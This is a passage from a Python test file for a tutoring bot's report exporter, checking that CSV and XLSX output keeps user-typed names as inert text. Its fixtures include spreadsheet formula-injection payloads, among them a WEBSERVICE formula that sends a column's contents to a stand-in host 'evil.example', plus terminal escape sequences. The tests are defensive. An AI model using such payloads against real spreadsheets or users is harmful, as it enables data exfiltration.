            found[by] = list(csv.DictReader(io.StringIO(proc.stdout)))
        return found

    def completed(found: dict[str, list[dict[str, str]]]) -> dict[str, str]:
        return {
            "lesson": found["lesson"][0]["completed"],
            "unit": found["unit"][0]["completed"],
            "class": found["class"][0]["completions"],
            "volunteer": found["volunteer"][0]["completions"],
            "learner": found["learner"][0]["lessons_completed"],
        }

    whole = await asyncio.to_thread(figures, "2026-11-01", "2026-11-05")
    lesson = whole["lesson"][0]
    assert (lesson["started"], lesson["completed"], lesson["median_minutes"]) == ("1", "1", "10.0")
    assert set(completed(whole).values()) == {"1"}
    first_day = await asyncio.to_thread(figures, "2026-11-02", "2026-11-02")
    assert first_day["lesson"][0]["median_minutes"] == "10.0"
    assert set(completed(first_day).values()) == {"1"}
    # The 3rd to the 5th hold only the second run: nothing new was started or completed then.
    later = await asyncio.to_thread(figures, "2026-11-03", "2026-11-05")
    assert (later["lesson"][0]["started"], later["lesson"][0]["median_minutes"]) == ("0", "")
    assert later["learner"][0]["lessons_started"] == "0"
    assert set(completed(later).values()) == {"0"}


NAMES = {
    "n1": "=1+1",
    "n2": '=WEBSERVICE("http://evil.example/?"&TEXTJOIN(",",1,B:B))',
    "n3": "＝HYPERLINK(１)",  # full-width: Excel reads it as a formula too
    "n4": "#N/A",  # openpyxl would make it an error cell
    "n5": "Bà\x1b[2J Tư\x07",  # terminal escape and bell: not for a terminal, not valid in XML
    "n6": "Lan;=1+2",  # a Vietnamese Excel splits a CSV on ';'
}


async def test_names_typed_by_strangers_stay_text(db_url: str, clock: FrozenClock, tmp_path: Path) -> None:
    clock = Clock(clock)
    tutor = await make_tutor(db_url)
    try:
        async with tutor.db.transaction() as repo:
            await repo.upsert_unit("u1", "+cmd", None, "xa")
            volunteer = await repo.grant("console", "tnv", "volunteer", "u1", T0)
            volunteer.display_name = "-Minh"
        minh = Chat(tutor, Actor("console", "tnv", "-Minh"))
        # 10:00, after the clock's 09:00: a class time already past would be asked about first.
        for line in ("/taolop", "@SUM(A1)", '=HYPERLINK("http://evil.example","Bấm")', "2/11 10:00"):
            replies = await minh.say(line)
        code = next(word for word in replies[0].text.split() if len(word) == 6 and word.isupper())
        for ext, name in NAMES.items():
            await minh.person(ext, name).say(f"/ma {code}")
        await minh.say("/buoihoc")  # a session, so the class's name is in the session sheet too
        await press(minh, "▶️ Bắt đầu buổi học ngay")
    finally:
        await tutor.db.close()

    out = tmp_path / "r.xlsx"
    proc = await asyncio.to_thread(run_report, db_url, "--format", "xlsx", "--out", str(out), *PERIOD)
    assert proc.returncode == 0, proc.stderr
    with zipfile.ZipFile(out) as book:
        sheets = [book.read(name).decode() for name in book.namelist() if name.startswith("xl/worksheets/")]
    assert len(sheets) == 12 and not any(re.search(r"<f[ >/]", xml) for xml in sheets)
    book = openpyxl.load_workbook(out)
    names = {row[1].value: row[1].data_type for row in book["Học viên"].iter_rows(min_row=2)}
    assert names == {**{n: "s" for n in NAMES.values() if n != NAMES["n5"]}, "Bà[2J Tư": "s"}
    klass = next(book["Theo lớp"].iter_rows(min_row=2, values_only=True))
    assert klass[1:6:2] == ("@SUM(A1)", '=HYPERLINK("http://evil.example","Bấm")', "-Minh")
    assert next(book["Theo đơn vị"].iter_rows(min_row=2, values_only=True))[1] == "+cmd"
    session = next(book["Buổi học"].iter_rows(min_row=2))
    assert (session[2].value, session[2].data_type, session[7].value) == ("@SUM(A1)", "s", "-Minh")

    def report_csv(by: str) -> list[dict[str, str]]:
        proc = run_report(db_url, "--by", by, "--format", "csv", *PERIOD)
        assert proc.returncode == 0, proc.stderr
        return list(csv.DictReader(io.StringIO(proc.stdout)))

    learners = await asyncio.to_thread(report_csv, "learner")
    assert sorted(r["name"] for r in learners) == sorted(
        [
            "'=1+1",
            '\'=WEBSERVICE("http://evil.example/?"&TEXTJOIN(",",1,B:B))',
            "'＝HYPERLINK(１)",
            "#N/A",
            "Bà\x1b[2J Tư\x07",
            "Lan;'=1+2",
        ]
    )
    assert {r["volunteer"] for r in learners} == {"'-Minh"}
    (klass,) = await asyncio.to_thread(report_csv, "class")
    assert (klass["class_name"], klass["place"], klass["volunteer"]) == (
        "'@SUM(A1)",
        '\'=HYPERLINK("http://evil.example","Bấm")',
        "'-Minh",
    )
    assert (await asyncio.to_thread(report_csv, "unit"))[0]["unit_name"] == "'+cmd"
    # The terminal table shows the names without their escape sequences.
    proc = await asyncio.to_thread(run_report, db_url, "--by", "learner", *PERIOD)
    assert "\x1b" not in proc.stdout and "\x07" not in proc.stdout and "Bà�[2J Tư�" in proc.stdout


def test_csv_neutralises_text_but_not_numbers() -> None:
    from bot.reports.render import csv_value

    assert [csv_value(v) for v in (-3, -2.5, 0.75, None)] == [-3, -2.5, 0.75, ""]
    assert [csv_value(v) for v in ("-3", "+84 912", "@x", "\tx", "\rx", "－1", "＋1", "＠x")] == [
        "'-3",
        "'+84 912",
        "'@x",
        "'\tx",
        "'\rx",
        "'－1",
        "'＋1",
        "'＠x",
    ]
    assert [csv_value(v) for v in ("Bà Lan", "", "a; -b", "5-3", "a=b")] == [
        "Bà Lan",
        "",
        "a; '-b",
        "5-3",
        "a=b",
    ]


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--format", "xlsx"], "hocvuso: --format xlsx needs --out FILE.xlsx"),
        (
            ["--format", "csv", "--out", "{tmp}/missing/r.csv"],
            "hocvuso: --out: folder {tmp}/missing does not exist",
        ),
        (["--format", "xlsx", "--out", "{tmp}"], "hocvuso: --out {tmp} is a folder; name a file in it"),
        (
            ["--since", "2026-11-10", "--until", "2026-11-01"],
            "hocvuso: --since 2026-11-10 is after --until 2026-11-01",
        ),
    ],
)
def test_bad_report_arguments_get_one_line_before_any_work(
    args: list[str], message: str, tmp_path: Path
) -> None:
    database = tmp_path / "never-opened.db"
    proc = run_report_process(f"sqlite+aiosqlite:///{database}", *(a.format(tmp=tmp_path) for a in args))
    assert (proc.returncode, proc.stdout) == (2, "")
    assert proc.stderr.splitlines() == [message.format(tmp=tmp_path)]  # no traceback, no "[1/7] summary…"
    assert not database.exists()  # the database was not even opened
